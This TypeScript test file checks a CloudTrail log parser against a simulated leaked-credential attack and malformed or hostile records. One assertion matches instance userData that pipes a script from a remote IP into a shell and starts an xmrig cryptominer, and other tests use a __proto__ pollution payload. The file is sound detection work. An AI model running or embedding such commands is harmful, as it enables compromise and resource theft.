import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { gunzipSync } from 'node:zlib';
import type { CoalEvent } from '../model/event.js';
import { cloudtrail } from './cloudtrail.js';
import { cutLineCase, fileInput, memoryInput, readAll, runSourceContract, TEST_CONTEXT } from './contract.js';
import { sniffSource } from './index.js';
import type { SourceInput } from './types.js';

const DIR = 'test/fixtures/cloudtrail';
const calls = fileInput(`${DIR}/calls.jsonl`);
const bad = fileInput(`${DIR}/bad.jsonl`);
const trail = fileInput(`${DIR}/trail.json`);
const lookup = fileInput(`${DIR}/lookup-events.json`);
const GZ = `${DIR}/123456789012_CloudTrail_us-east-1_20261102T0335Z_Xq3lYy9t0pQ2mFk1.json.gz`;

runSourceContract({
  source: cloudtrail,
  good: calls,
  bad,
  // a SIEM export copied while the CreateFleet record was written: it ends inside the fleet's launch template id
  cut: cutLineCase(calls, 7, '"LaunchTemplateId":"', 'lt-0cutcutcut'),
});

async function unusedOf(input: SourceInput): Promise<number> {
  let unused = 0;
  for await (const batch of cloudtrail.read(input, TEST_CONTEXT)) unused += batch.unused ?? 0;
  return unused;
}

const byOp = (events: CoalEvent[], op: string) => events.filter((e) => e.coalmine.cloud?.operation === op);

test('an S3 delivery file: the leaked-key story, each call with who, from where and what it asked for', async () => {
  const { events, issues } = await readAll(cloudtrail, trail);
  assert.deepEqual(issues, []);
  assert.deepEqual(
    events.map((e) => [e.coalmine.ref.line, e.event.dataset, e.event.outcome]),
    [
      [29, 'cloudtrail.EnableRegion', 'success'],
      [57, 'cloudtrail.GetServiceQuota', 'success'],
      [86, 'cloudtrail.RequestServiceQuotaIncrease', 'success'],
      [125, 'cloudtrail.ImportKeyPair', 'success'],
      [159, 'cloudtrail.AuthorizeSecurityGroupIngress', 'success'],
      [223, 'cloudtrail.RunInstances', 'failure'],
      [278, 'cloudtrail.RunInstances', 'success'],
      [373, 'cloudtrail.RunInstances', 'success'],
      [450, 'cloudtrail.RunInstances', 'success'],
    ],
  );
  // GetCallerIdentity and DescribeInstances are read and counted, not errors
  assert.equal(await unusedOf(trail), 2);
  for (const e of events) {
    assert.equal(e.event.action, 'cloud-change');
    assert.equal(e.host?.name, 'aws:123456789012');
    assert.equal(e.cloud?.provider, 'aws');
    assert.equal(e.cloud?.account?.id, '123456789012');
  }
  const [region, quota, raise, key, ingress] = events;
  assert.deepEqual(region.coalmine.cloud?.resources, [{ type: 'region', name: 'ap-southeast-3' }]);
  assert.deepEqual(quota.coalmine.cloud?.resources, [{ type: 'quota', name: 'ec2/L-DB2E81BA' }]);
  assert.deepEqual(raise.coalmine.cloud?.resources, [
    { type: 'quota', name: 'ec2/L-DB2E81BA' },
    { type: 'desired-value', name: '256' },
    { type: 'request-status', name: 'PENDING' },
  ]);
  assert.deepEqual(key.event.category, ['iam']);
  assert.deepEqual(key.coalmine.cloud?.resources, [{ type: 'key-pair', name: 'ops-recovery' }]);
  assert.deepEqual(ingress.coalmine.cloud?.resources, [
    { type: 'security-group', name: 'sg-0a1b2c3d4e5f60718' },
    { type: 'ingress', name: '0.0.0.0/0 tcp 22' },
  ]);
  assert.deepEqual(region.coalmine.cloud?.principal, {
    type: 'IAMUser',
    id: 'arn:aws:iam::123456789012:user/build-bot',
    accessKeyId: 'AKIAI44QH8DHBEXAMPLE',
  });
  assert.equal(region.user?.name, 'arn:aws:iam::123456789012:user/build-bot');
  assert.deepEqual(region.source, { ip: '203.0.113.77' });
  assert.match(region.user_agent?.original ?? '', /^aws-cli\/2\.15\.30 /);
});

test('RunInstances: count, type, image, decoded userData, tags, and every instance of the response with its addresses', async () => {
  const { events } = await readAll(cloudtrail, trail);
  const [denied, launch] = byOp(events, 'RunInstances');
  const c = launch.coalmine.cloud;
  assert.equal(c?.count, 20);
  assert.equal(c?.instanceType, 'g4dn.xlarge');
  assert.equal(c?.image, 'ami-0c55b159cbfafe1f0');
  assert.equal(c?.region, 'ap-southeast-3');
  assert.match(c?.userData ?? '', /^#!\/bin\/bash\ncurl -fsSL http:\/\/198\.51\.100\.23\/x\/install\.sh \| sh\n/);
  assert.match(c?.userData ?? '', /xmrig -o pool\.supportxmr\.com:443/);
  assert.deepEqual(c?.tags, { Name: 'worker' });
  assert.deepEqual(c?.resources, [
    { type: 'security-group', name: 'sg-0a1b2c3d4e5f60718' },
    { type: 'key-pair', name: 'ops-recovery' },
  ]);
  assert.equal(c?.instances?.length, 20);
  assert.deepEqual(c?.instances?.[0], {
    id: 'i-0a003b4c5d6e7f8091',
    type: 'g4dn.xlarge',
    image: 'ami-0c55b159cbfafe1f0',
    zone: 'ap-southeast-3a',
    privateIps: ['10.20.1.10'],
    publicIps: ['203.0.113.140'],
    interfaces: ['eni-0b004c5d6e7f80912'],
    tags: { Name: 'worker' },
    state: 'pending',
  });
  assert.equal(c?.instances?.[19].privateIps?.[0], '10.20.1.29');
  // twenty instances: no one of them is the event's instance
  assert.equal(launch.cloud?.instance, undefined);
  assert.deepEqual(launch.cloud?.machine, { type: 'g4dn.xlarge' });
  assert.deepEqual(launch.event.type, ['creation']);
  // the denied GPU launch is kept, with what it asked for and why it failed
  assert.equal(denied.event.outcome, 'failure');
  assert.deepEqual(denied.event.type, ['creation', 'denied']);
  assert.equal(denied.coalmine.cloud?.errorCode, 'Client.UnauthorizedOperation');
  assert.match(denied.coalmine.cloud?.errorMessage ?? '', /^You are not authorized/);
  assert.equal(denied.coalmine.cloud?.instanceType, 'p3.16xlarge');
  assert.equal(denied.coalmine.cloud?.count, 8);
  assert.equal(denied.coalmine.cloud?.instances, undefined);
});

test('an autoscaling launch names the service, not an address; a Terraform role launch keeps its session issuer and ticket tag', async () => {
  const { events } = await readAll(cloudtrail, trail);
  const [, , asg, terraform] = byOp(events, 'RunInstances');
  assert.equal(asg.source, undefined);
  assert.equal(asg.coalmine.cloud?.principal?.invokedBy, 'autoscaling.amazonaws.com');
  assert.equal(
    asg.coalmine.cloud?.principal?.sessionIssuer,
    'arn:aws:iam::123456789012:role/aws-service-role/autoscaling.amazonaws.com/AWSServiceRoleForAutoScaling',
  );
  assert.equal(asg.coalmine.cloud?.count, 2);
  // the type comes from the launch template: the response's instances say it
  assert.deepEqual(asg.cloud?.machine, { type: 'c5.xlarge' });
  assert.deepEqual(asg.coalmine.cloud?.resources, [{ type: 'launch-template', name: 'lt-0a1b2c3d4e5f60789:7' }]);
  const p = terraform.coalmine.cloud?.principal;
  assert.equal(p?.id, 'arn:aws:sts::123456789012:assumed-role/terraform-deploy/ci-run-4411');
  assert.equal(p?.sessionIssuer, 'arn:aws:iam::123456789012:role/terraform-deploy');
  assert.equal(p?.accessKeyId, 'ASIAEXAMPLETFKEY4411');
  assert.equal(p?.mfa, false);
  assert.deepEqual(terraform.coalmine.cloud?.tags, { Name: 'train-gpu', team: 'research', ticket: 'ML-1234' });
  assert.match(terraform.user_agent?.original ?? '', /Terraform\/1\.7\.5/);
  // an AWS service acting with no identity ARN is still someone
  const line = JSON.stringify({
    eventTime: '2026-11-02T04:00:00Z',
    eventSource: 'ec2.amazonaws.com',
    eventName: 'RunInstances',
    userIdentity: { type: 'AWSService', invokedBy: 'spot.amazonaws.com' },
    sourceIPAddress: 'spot.amazonaws.com',
    recipientAccountId: '123456789012',
  });
  const { events: spot } = await readAll(cloudtrail, memoryInput('spot.jsonl', `${line}\n`));
  assert.equal(spot[0].coalmine.cloud?.principal?.id, 'spot.amazonaws.com');
  assert.equal(spot[0].user?.name, 'spot.amazonaws.com');
});

test('one record per line: instance lifecycle, fleets, spot, groups, templates, ECS, keys and quotas; other services and calls unused', async () => {
  const { events } = await readAll(cloudtrail, calls);
  const one = (op: string) => {
    const found = byOp(events, op);
    assert.equal(found.length, 1, op);
    return found[0];
  };
  const start = one('StartInstances');
  assert.deepEqual(start.cloud?.instance, { id: 'i-0e1f2a3b4c5d6e7f8' });
  assert.deepEqual(start.event.type, ['start']);
  assert.equal(start.coalmine.cloud?.principal?.mfa, true);
  const [resize, script] = byOp(events, 'ModifyInstanceAttribute');
  assert.equal(resize.coalmine.cloud?.instanceType, 'c5.9xlarge');
  assert.equal(script.coalmine.cloud?.userData, '#!/bin/bash\nsystemctl restart nightly-report\n');
  const end = one('TerminateInstances');
  assert.deepEqual(end.event.type, ['deletion']);
  assert.deepEqual(
    end.coalmine.cloud?.instances?.map((i) => [i.id, i.state]),
    [
      ['i-0a003b4c5d6e7f8091', 'shutting-down'],
      ['i-0a013b4c5d6e7f8091', 'shutting-down'],
    ],
  );
  const template = one('CreateLaunchTemplate').coalmine.cloud;
  assert.equal(template?.instanceType, 'c6i.8xlarge');
  assert.equal(template?.userData, '#!/bin/bash\n/opt/batch/run-nightly.sh\n');
  assert.deepEqual(template?.resources?.at(-1), { type: 'launch-template', name: 'batch-nightly:1' });
  assert.deepEqual(one('CreateLaunchTemplateVersion').coalmine.cloud?.resources, [
    { type: 'launch-template', name: 'batch-nightly:2' },
  ]);
  const fleet = one('CreateFleet').coalmine.cloud;
  assert.equal(fleet?.count, 6);
  assert.equal(fleet?.instanceType, 'c6i.16xlarge');
  assert.deepEqual(fleet?.resources, [
    { type: 'launch-template', name: 'lt-0b1c2d3e4f5a60718:2' },
    { type: 'instance-type', name: 'c5.18xlarge' },
    { type: 'fleet', name: 'fleet-0a1b2c3d-4e5f-6a7b-8c9d-0e1f2a3b4c5d' },
  ]);
  assert.deepEqual(
    fleet?.instances?.map((i) => [i.id, i.type]),
    [
      ['i-0f10a1b2c3d4e5f60', 'c6i.16xlarge'],
      ['i-0f11a1b2c3d4e5f60', 'c6i.16xlarge'],
    ],
  );
  const spotFleet = one('RequestSpotFleet').coalmine.cloud;
  assert.equal(spotFleet?.count, 10);
  assert.equal(spotFleet?.instanceType, 'm5.4xlarge');
  // CloudTrail redacts it: kept as the record says, never decoded into something else
  assert.equal(spotFleet?.userData, '<sensitiveDataRemoved>');
  const spot = one('RequestSpotInstances').coalmine.cloud;
  assert.equal(spot?.count, 3);
  assert.equal(spot?.resources?.filter((r) => r.type === 'spot-request').length, 3);
  const group = one('CreateAutoScalingGroup').coalmine.cloud;
  assert.equal(group?.count, 4);
  assert.deepEqual(group?.resources, [
    { type: 'autoscaling-group', name: 'web-asg' },
    { type: 'capacity', name: 'min 2, max 40, desired 4' },
    { type: 'launch-template', name: 'web:$Latest' },
  ]);
  assert.equal(one('UpdateAutoScalingGroup').coalmine.cloud?.count, 12);
  const task = one('RegisterTaskDefinition').coalmine.cloud;
  assert.deepEqual(task?.containers, [
    {
      name: 'worker',
      image: 'docker.io/library/python:3.12-slim',
      command: ['sh', '-c'],
      args: ['python /app/report.py'],
      env: ['MODE=nightly'],
      cpuRequestCores: 4,
    },
  ]);
  assert.deepEqual(task?.resources?.at(-1), { type: 'task-cpu', name: '8192' });
  assert.equal(one('RunTask').coalmine.cloud?.count, 4);
  assert.equal(one('CreateService').coalmine.cloud?.count, 2);
  assert.deepEqual(one('CreateKeyPair').event.category, ['iam']);
  assert.deepEqual(one('ListServiceQuotas').coalmine.cloud?.resources, [{ type: 'quota', name: 'ec2' }]);
  assert.deepEqual(one('CreateAccessKey').coalmine.cloud?.resources, [
    { type: 'user', name: 'build-bot' },
    { type: 'access-key', name: 'AKIAEXAMPLENEWKEY001' },
  ]);
  // ConsoleLogin, AppStream's CreateFleet (another service's call of the same name), DescribeInstances
  assert.equal(await unusedOf(calls), 3);
  assert.equal(events.length, 17);
});

test('lookup-events output: each record is read from its CloudTrailEvent string, on the line of its item', async () => {
  const { events, issues } = await readAll(cloudtrail, lookup);
  assert.deepEqual(issues, []);
  // lookup-events prints the newest event first; the reader gives them in time order
  assert.deepEqual(
    events.map((e) => [e.coalmine.ref.line, e.coalmine.cloud?.operation, e.event.outcome]),
    [
      [35, 'EnableRegion', 'success'],
      [19, 'RunInstances', 'failure'],
      [3, 'RunInstances', 'success'],
    ],
  );
  assert.equal(events[2].coalmine.cloud?.instances?.length, 20);
  assert.equal(events[2].event.id, 'e1f2a3b4-0008-4c5d-8e9f-0a1b2c3d4e5f');
});

test('an S3 object as delivered (one line, gzip) reads like the pretty-printed file', async () => {
  const input = memoryInput(GZ, gunzipSync(readFileSync(GZ)));
  assert.equal(sniffSource(input)?.name, 'cloudtrail');
  const { events, issues } = await readAll(cloudtrail, input);
  assert.deepEqual(issues, []);
  assert.deepEqual(
    events.map((e) => [e.coalmine.ref.line, e.coalmine.cloud?.operation, e.coalmine.cloud?.count]),
    [
      [1, 'EnableRegion', undefined],
      [1, 'RunInstances', 20],
      [1, 'RunInstances', 2],
    ],
  );
});

test('bad records are reported with their line and reason; the good ones and the readable parts of hostile ones are kept', async () => {
  const { events, issues } = await readAll(cloudtrail, bad);
  assert.deepEqual(
    issues.map((i) => [i.line, i.code]),
    [
      [2, 'CLOUDTRAIL_BAD_JSON'],
      [3, 'CLOUDTRAIL_BAD_RECORD'],
      [4, 'CLOUDTRAIL_BAD_RECORD'],
      [5, 'CLOUDTRAIL_BAD_RECORD'],
      [6, 'CLOUDTRAIL_FIELD_TOO_LARGE'],
      [8, 'CLOUDTRAIL_BAD_RECORD'],
      [9, 'CLOUDTRAIL_BAD_RECORD'],
      [10, 'CLOUDTRAIL_BAD_RECORD'],
    ],
  );
  const reasons = issues.map((i) => i.reason).join('\n');
  for (const why of [
    'no eventName',
    'no eventTime',
    'eventTime "2026-13-45T99:00:00Z" is not a time',
    'userData of 26668 characters',
    'Records is not an array',
    'CloudTrailEvent does not parse',
    'JSON but not an object',
  ])
    assert.ok(reasons.includes(why), why);
  assert.deepEqual(
    events.map((e) => [e.coalmine.ref.line, e.coalmine.cloud?.operation]),
    // in time order: line 1's StartInstances is later than the launches
    [
      [6, 'RunInstances'],
      [7, 'RunInstances'],
      [1, 'StartInstances'],
      [11, 'TerminateInstances'],
    ],
  );
  // the oversized userData is kept, decoded from its start and clipped
  const big = events.find((e) => e.coalmine.ref.line === 6)?.coalmine.cloud?.userData ?? '';
  assert.ok(big.startsWith('echo mine\n'));
  assert.ok(big.length <= 4096 + 16, `${big.length}`);
});

test('hostile fields: wrong types dropped, strings bounded, a __proto__ tag is plain data, no address that is none', async () => {
  const { events } = await readAll(cloudtrail, bad);
  const hostile = events.find((e) => e.event.id === 'e1f2a3b4-hostile');
  assert.ok(hostile);
  const c = hostile.coalmine.cloud;
  assert.equal(hostile.source, undefined); // 'AWS Internal' is no address and no service
  assert.equal(c?.principal?.accessKeyId, undefined);
  assert.ok((hostile.user_agent?.original?.length ?? 0) <= 1024 + 16);
  assert.equal(c?.count, undefined); // "lots" and -3 are no counts
  assert.deepEqual(c?.tags, undefined); // tags nested past a specification are no shape EC2 logs
  const [first, plain] = c?.instances ?? [];
  assert.equal(first.type, undefined);
  assert.equal(first.privateIps, undefined);
  assert.equal(first.interfaces, undefined);
  assert.equal(Object.getPrototypeOf(first.tags), Object.prototype);
  assert.equal(Object.getOwnPropertyDescriptor(first.tags, '__proto__')?.value, 'polluted');
  assert.ok(Object.keys(first.tags ?? {}).every((k) => k.length <= 128 + 16));
  assert.equal(plain.id, 'i-0plainstring00001');
  assert.equal(c?.instances?.length, 2);
  assert.equal(({} as Record<string, unknown>).polluted, undefined);
});

test('a damaged delivery file: a record that does not parse and a cut end are reported where they are', async () => {
  const { events, issues } = await readAll(cloudtrail, fileInput(`${DIR}/bad-document.json`));
  assert.deepEqual(
    issues.map((i) => [i.line, i.code]),
    [
      [31, 'CLOUDTRAIL_BAD_JSON'],
      [76, 'CLOUDTRAIL_TRUNCATED'],
    ],
  );
  assert.deepEqual(
    events.map((e) => e.coalmine.cloud?.operation),
    ['EnableRegion'],
  );
  assert.ok(!JSON.stringify(events).includes('sg-cutcutcut'));
  const notArray = await readAll(cloudtrail, fileInput(`${DIR}/records-not-array.json`));
  assert.deepEqual(
    notArray.issues.map((i) => [i.line, i.code, i.reason]),
    [[1, 'CLOUDTRAIL_BAD_RECORD', 'Records is not an array']],
  );
});

test('sniffed in every form; other JSON with Records or events is not CloudTrail, and CloudTrail is no other format', () => {
  const sniff = (text: string, name = 'x.json') => sniffSource({ head: Buffer.from(text), name })?.name;
  assert.equal(sniffSource(trail)?.name, 'cloudtrail');
  assert.equal(sniffSource(calls)?.name, 'cloudtrail');
  assert.equal(sniffSource(lookup)?.name, 'cloudtrail');
  assert.equal(sniffSource(bad)?.name, 'cloudtrail');
  const record = readFileSync(`${DIR}/calls.jsonl`, 'utf8').split('\n')[1];
  assert.equal(sniff(`[${record}]`), 'cloudtrail');
  assert.equal(sniff(JSON.stringify(JSON.parse(record), null, 2)), 'cloudtrail');
  assert.equal(
    sniff(JSON.stringify({ 'detail-type': 'AWS API Call via CloudTrail', detail: JSON.parse(record) })),
    'cloudtrail',
  );
  // a head cut inside the first record of a one-line delivery
  assert.equal(sniff(`{"Records":[${record.slice(0, 300)}`), 'cloudtrail');
  // S3 event notifications and Azure activity exports also wrap their records
  assert.notEqual(
    sniff(
      '{"Records":[{"eventVersion":"2.1","eventSource":"aws:s3","awsRegion":"us-east-1","eventTime":"2026-11-02T03:00:00.000Z","eventName":"ObjectCreated:Put","userIdentity":{"principalId":"AWS:AIDAEXAMPLE"},"s3":{}}]}',
    ),
    'cloudtrail',
  );
  assert.notEqual(
    sniff('{"records":[{"time":"2026-11-02T03:00:00Z","operationName":"MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE"}]}'),
    'cloudtrail',
  );
  assert.notEqual(sniff('{"Events":[{"EventId":"1","Message":"not a trail"}]}'), 'cloudtrail');
  assert.notEqual(sniff('{"@timestamp":"2026-11-02T03:00:00Z","event":{"action":"exec"}}\n'), 'cloudtrail');
  assert.notEqual(
    sniff('{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"a","stage":"ResponseComplete","verb":"create"}\n'),
    'cloudtrail',
  );
});

test('a newest-first file (lookup-events prints the newest event first) is read in time order, no event lost', async () => {
  const lines = readFileSync(`${DIR}/calls.jsonl`, 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '');
  const lookupDoc = JSON.parse(readFileSync(`${DIR}/lookup-events.json`, 'utf8')) as { Events: unknown[] };
  const cases: [SourceInput, SourceInput][] = [
    [calls, memoryInput('newest-first.jsonl', `${[...lines].reverse().join('\n')}\n`)],
    [lookup, memoryInput('newest-first.json', JSON.stringify({ Events: [...lookupDoc.Events].reverse() }, null, 2))],
  ];
  for (const [asWritten, newestFirst] of cases) {
    const { events, issues } = await readAll(cloudtrail, newestFirst);
    assert.deepEqual(issues, [], newestFirst.name);
    assert.ok(events.length >= 2, newestFirst.name);
    assert.equal(events.length, (await readAll(cloudtrail, asWritten)).events.length, newestFirst.name);
    const times = events.map((e) => e.coalmine.ts);
    assert.deepEqual(
      times,
      [...times].sort((a, b) => a - b),
      `${newestFirst.name} is not in time order`,
    );
  }
});
